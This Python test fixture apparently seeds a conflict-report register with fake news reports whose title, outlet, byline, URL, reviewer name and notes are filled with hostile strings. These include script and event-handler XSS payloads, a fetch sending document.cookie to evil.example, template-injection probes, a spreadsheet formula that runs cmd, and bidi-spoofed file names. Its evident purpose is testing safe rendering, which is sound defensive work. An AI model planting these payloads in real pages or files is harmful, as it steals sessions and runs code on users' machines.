"""Reports that mean harm, one of each kind: in title, outlet, place, speaker, quote, note and address."""

from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

from onrecord.model.claims import Attribution, Claim, Count, Victims
from onrecord.model.documents import Document, RawItem
from onrecord.model.enums import (
    Category,
    DisruptionKind,
    DisruptionStatus,
    Effect,
    EventType,
    Judgement,
    ProblemSeverity,
    Qualifier,
    SourceRole,
    Stance,
    TimeKind,
)
from onrecord.model.events import DisruptionMention, EventMention
from onrecord.model.hashing import content_id, sha256_hex
from onrecord.model.mentions import PartyRef, PlaceRef, TimeRef
from onrecord.model.problems import Problem
from onrecord.model.register import Decision, Extraction
from onrecord.model.spans import cut
from onrecord.store.sqlite import Store

NOW = datetime(2026, 3, 9, 8, tzinfo=UTC)
# Whatever runs says so here, or asks for something from elsewhere.
RUN = "window.owned=1;document.title='owned';fetch('http://evil.example/'+document.cookie)"
KINDS = {
    "script": f"<script>{RUN}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "closing": f"</title></textarea></style></script></pre></svg><script>{RUN}</script>",
    "attribute": f"\"' autofocus onfocus=\"{RUN}\" onmouseover='{RUN}' style='position:fixed' x=\"",
    "image": f'<img src=x onerror="{RUN}"><img src=http://evil.example/i.png><link rel=prefetch href=//evil.example>',
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" dur=1s/><foreignObject><iframe srcdoc="x"/></foreignObject>',
    "frame": f'<iframe src="javascript:{RUN}"></iframe><meta http-equiv=refresh content="0;url=//evil.example"><base href=//x>',
    "address": f"javascript:{RUN}//",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "style": "<style>body{display:none;background:url(http://evil.example/c)}</style>}*{visibility:hidden}",
    "template": "{{ 7*191 }}${7*191}#{7*191}{% include 'x' %}<%= 7*191 %>{{constructor.constructor('" + RUN + "')()}}",
    "form": "<form action=http://evil.example><input name=csrf_token><button name=answer value=accept autofocus>ok</form>",
    "turned": "\u202egnp.exe\u2066 deppots \u2067\u200f\u202d open",
    "turned within": "אבג \u202eabc\u202c (12) ‏٣٤‎ ]{[",
    "formula": '=HYPERLINK("http://evil.example","x")+cmd|\' /C calc\'!A0',
    "controls": "a\x01b\x08c\x0bd\x1be\x7ff\x85g\ufeffh\u2028i\u200bj\ufffe",
    "entities": "&lt;b&gt;&#60;script&#62;&amp;amp;&NewLine;&colon;",
    "long word": "unbreakable" * 700,
    "long name": "W" * 9_000 + " " + "_" * 3_000,
    "stacked": "Z" + "\u0335\u0321\u0489" * 300 + " é" * 40,
    "wide": "𒐫" * 60 + "﷽" * 60 + "⸻" * 60,
}


def fill(path: Path) -> None:
    """Writes a register with one report of each kind, decisions on them, and trouble that speaks in the same words."""
    with Store.open(path) as store:
        for number, words in enumerate(KINDS.values()):
            item, doc, found = report(number, words)
            store.add(item, doc, found, (_problem(doc, words),), recorded_at=NOW)
            for made in decisions(doc, found.claims[0], number, words):
                store.decide(made, recorded_at=NOW)


def report(number: int, words: str) -> tuple[RawItem, Document, Extraction]:
    """One report of the kind, told by it in every field."""
    count = number + 3
    text = f"{words} said that {count} soldiers died at {words}. {words}\nThe road was closed. {words}"
    content = f"<html><title>{words}</title><body>{text}</body></html>".encode("utf-8", "surrogatepass")
    digest = sha256_hex(content)
    item = RawItem(content=content, sha256=digest, media_type="text/html", source=f"{words[:80]}.html")
    doc = Document(
        document_id=content_id("doc", None, digest), text_version="plain-1", text=text, raw_sha256=digest, source=item.source,
        outlet=words, title=words, byline=words, wire_credit=words, url=f"javascript:{words[:200]}", language="en",
        published_at=datetime(2026, 3, 1 + number % 8, 12, tzinfo=UTC), published_prec="day",
    )  # fmt: skip
    about = {"document_id": doc.document_id, "text_version": doc.text_version, "found_by": words[:60]}
    day = date(2026, 3, 1 + number % 8)
    when = TimeRef(span=cut(text, 0, len(words)), date_start=day, date_end=day, date_prec=1, kind=TimeKind.DAY)
    at = text.index(f"{count} soldiers")
    where = PlaceRef(
        span=cut(text, text.index(words, at), text.index(words, at) + len(words)), place_id=f"overlay:{number}", name=words,
        country="ML", adm_1=words, latitude=16 + number / 10, longitude=-0.5, where_prec=2, radius_km=9.0,
    )  # fmt: skip
    said = Attribution(source=words, source_span=cut(text, 0, len(words)), role=SourceRole.OTHER, stance=Stance.NEUTRAL)
    claim = Claim(
        claim_id=content_id("clm", doc.document_id, number), span=cut(text, 0, at + len(f"{count} soldiers died")),
        count=Count(span=cut(text, at, at + len(str(count))), low=count, high=count, qualifier=Qualifier.EXACT, cue=words),
        effect=Effect.KILLED, effect_detail=words, victims=Victims(category=Category.SECURITY), attribution=said, time=when,
        place=where, score=0.3 if number % 2 else 0.9, **about,
    )  # type: ignore[arg-type]  # fmt: skip  # fields that every record has
    event = EventMention(
        event_mention_id=content_id("evm", doc.document_id, number), trigger=cut(text, at, at + 1), type=EventType.ARMED_ATTACK,
        perpetrator=PartyRef(actor_id=words[:200]), place=where, time=when, **about,
    )  # type: ignore[arg-type]  # fmt: skip  # as above
    shut = text.index("road was closed")
    closed = DisruptionMention(
        disruption_id=content_id("dis", doc.document_id, number), span=cut(text, shut, shut + len("road was closed")),
        kind=DisruptionKind.ROAD, status=DisruptionStatus.CLOSED, place=where, time=when, **about,
    )  # type: ignore[arg-type]  # fmt: skip  # as above
    found = Extraction(
        document_id=doc.document_id, text_version=doc.text_version, reader="test", relevant=True, relevance=1.0, claims=(claim,),
        events=(event,), disruptions=(closed,),
    )  # fmt: skip
    return item, doc, found


def decisions(doc: Document, claim: Claim, number: int, words: str) -> Iterator[Decision]:
    """A reviewer of that name decides or flags, for that reason."""
    made = Decision(
        subject=claim.claim_id, other=None, judgement=Judgement.POSITIVE, question="is this claim right?", decided_by=words[:80],
        note=words, decided_at=NOW, document_sha256=doc.raw_sha256, claim=claim,
    )  # fmt: skip
    if number % 4 == 0:
        yield made
    if number % 4 == 1:
        yield Decision(
            subject=claim.claim_id, other=None, judgement=Judgement.POSITIVE, question="look_again", decided_by=words[:80],
            note=words, decided_at=NOW,
        )  # fmt: skip


def _problem(doc: Document, words: str) -> Problem:
    return Problem(source=doc.source, code="test", severity=ProblemSeverity.WARNING, message=words, subject=words[:200])
